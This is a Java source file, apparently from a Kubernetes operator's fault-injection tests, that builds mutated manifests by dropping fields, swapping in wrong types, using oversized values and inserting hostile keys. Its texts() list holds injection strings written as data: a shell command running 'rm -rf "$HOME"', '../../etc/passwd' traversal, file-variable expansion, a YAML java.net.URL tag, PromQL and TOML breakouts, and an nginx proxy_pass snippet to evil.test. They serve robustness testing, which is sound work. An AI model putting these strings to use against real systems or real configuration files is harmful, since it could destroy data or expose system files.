package com.torrust.operator.fault;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.BigIntegerNode;
import com.fasterxml.jackson.databind.node.DoubleNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Every field of a manifest in turn, dropped, typed wrongly, huge, and with text that would break
 * out of a file or a query if somebody wrote it there unquoted. Always the same, in the same order.
 */
final class Mutations {

  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  /** Beyond about 1e308 the API server's JSON parser refuses the whole, and names no field. */
  private static final JsonNode TWO_64 = BigIntegerNode.valueOf(BigInteger.TWO.pow(64));

  /** Text by what it tries; plain ASCII escapes, so that this file stays readable. */
  private static final Map<String, String> TEXTS = texts();

  private final ObjectNode manifest;
  private final JsonNode schema;
  private final List<Mutation> all = new ArrayList<>();

  private Mutations(ObjectNode manifest, JsonNode schema) {
    this.manifest = manifest;
    this.schema = schema;
  }

  /**
   * Returns the mutations of a manifest's spec.
   *
   * @param manifest a manifest that is accepted
   * @param schema schema of its spec, whose fields that the manifest lacks are tried too
   */
  static List<Mutation> of(ObjectNode manifest, JsonNode schema) {
    final Mutations mutations = new Mutations(manifest, schema);
    mutations.visit("spec", "/spec", mutations.schema);
    return mutations.all;
  }

  private void visit(String path, String pointer, JsonNode type) {
    final JsonNode node = manifest.at(pointer);
    if (node.isMissingNode()) {
      values(path, pointer, type.path("type").asText("string"));
      return;
    }
    drop(path, pointer);
    values(path, pointer, name(node));
    if (node.isObject()) {
      hostileKeys(path, pointer);
      final Map<String, JsonNode> fields = new LinkedHashMap<>();
      node.fields().forEachRemaining(field -> fields.put(field.getKey(), field.getValue()));
      type.path("properties")
          .fields()
          .forEachRemaining(field -> fields.putIfAbsent(field.getKey(), null));
      fields
          .keySet()
          .forEach(
              name ->
                  visit(
                      path + "." + name,
                      pointer + "/" + name.replace("~", "~0").replace("/", "~1"),
                      type.path("properties").path(name)));
    } else if (node.isArray()) {
      lists(path, pointer, (ArrayNode) node);
      for (int i = 0; i < node.size(); i++) {
        visit(path + "[" + i + "]", pointer + "/" + i, type.path("items"));
      }
    }
  }

  private void drop(String path, String pointer) {
    add(path, "dropped", false, pointer, null);
  }

  private void values(String path, String pointer, String type) {
    final boolean text = type.equals("string");
    add(path, "null", false, pointer, NullNode.instance);
    add(path, "an object in its place", false, pointer, NODES.objectNode().put("evil", "true"));
    add(path, "a list in its place", false, pointer, NODES.arrayNode().add("evil"));
    add(path, "a boolean in its place", false, pointer, NODES.booleanNode(true));
    add(path, "a number in its place", false, pointer, NODES.numberNode(-1));
    if (type.equals("integer")) {
      add(path, "zero", true, pointer, NODES.numberNode(0));
      add(path, "two to the power of 31", true, pointer, NODES.numberNode(1L << 31));
      add(path, "two to the power of 64", true, pointer, TWO_64);
      add(path, "a fraction", false, pointer, DoubleNode.valueOf(0.5));
    }
    if (text || type.equals("integer") || type.equals("boolean")) {
      TEXTS.forEach((what, value) -> add(path, what, text, pointer, TextNode.valueOf(value)));
    } else {
      add(path, "text in its place", false, pointer, TextNode.valueOf("evil"));
    }
  }

  private void hostileKeys(String path, String pointer) {
    for (final String key : List.of("evil", "a b\n\"'", "", "x".repeat(300), "$(HOSTNAME)")) {
      final ObjectNode changed = manifest.deepCopy();
      ((ObjectNode) changed.at(pointer)).put(key, "evil");
      all.add(new Mutation(path, "a key more: " + shown(key), false, changed));
    }
  }

  private void lists(String path, String pointer, ArrayNode list) {
    add(path, "empty", false, pointer, NODES.arrayNode());
    add(path, "one null", false, pointer, NODES.arrayNode().add(NullNode.instance));
    final ArrayNode twice = list.deepCopy();
    add(path, "everything twice", false, pointer, twice.addAll(list));
    final ArrayNode often = NODES.arrayNode();
    for (int i = 0; i < 500; i++) {
      often.add(list.get(0));
    }
    add(path, "500 entries", false, pointer, often);
  }

  private void add(String path, String what, boolean keepsShape, String pointer, JsonNode value) {
    final ObjectNode changed = manifest.deepCopy();
    final int slash = pointer.lastIndexOf('/');
    final JsonNode parent = changed.at(pointer.substring(0, slash));
    final String name = pointer.substring(slash + 1).replace("~1", "/").replace("~0", "~");
    if (parent instanceof ArrayNode list) {
      if (value == null) {
        list.remove(Integer.parseInt(name));
      } else {
        list.set(Integer.parseInt(name), value);
      }
    } else if (value == null) {
      ((ObjectNode) parent).remove(name);
    } else {
      ((ObjectNode) parent).set(name, value);
    }
    all.add(new Mutation(path, what, keepsShape, changed));
  }

  private static String name(JsonNode node) {
    return switch (node.getNodeType()) {
      case STRING -> "string";
      case NUMBER -> "integer";
      case BOOLEAN -> "boolean";
      case ARRAY -> "array";
      default -> "object";
    };
  }

  private static String shown(String key) {
    return key.length() > 20 ? key.length() + " letters" : "'" + key.replace("\n", "\\n") + "'";
  }

  private static Map<String, String> texts() {
    final Map<String, String> texts = new LinkedHashMap<>();
    texts.put("empty text", "");
    texts.put("a blank", " ");
    texts.put("100,000 letters", "a".repeat(100_000));
    texts.put("a NUL", "a\u0000b");
    texts.put("an escape sequence", "a\u001b[2J");
    texts.put("line ends", "a\r\nb\n\n");
    texts.put("a byte order mark and a turned direction", "\ufeffa\u202eb");
    texts.put("a character beyond the basic plane", "a\ud83d\ude00b");
    texts.put("TOML", "a\"\n[evil]\nkey = \"b");
    texts.put("TOML in three quotes", "a\"\"\"\n[[evil]]\nx = '''");
    texts.put("YAML", "a: b\n- evil: true\n# ");
    texts.put("a YAML document", "a\n---\nevil: true");
    texts.put("a YAML tag", "!!java.net.URL [\"http://evil.test\"]");
    texts.put("JSON", "a\", \"evil\": \"b");
    texts.put("a PromQL label", "a\"} or vector(1) or up{b=\"");
    texts.put("a template", "{{ evil }}${EVIL}");
    texts.put("variables", "$(HOSTNAME)$$(HOSTNAME)$__file{/etc/passwd}");
    texts.put("a shell", "a; rm -rf \"$HOME\" `evil` | evil &");
    texts.put("a path", "../../etc/passwd");
    texts.put("a snippet", "a;\n} location /evil { proxy_pass http://evil.test; ");
    return texts;
  }
}
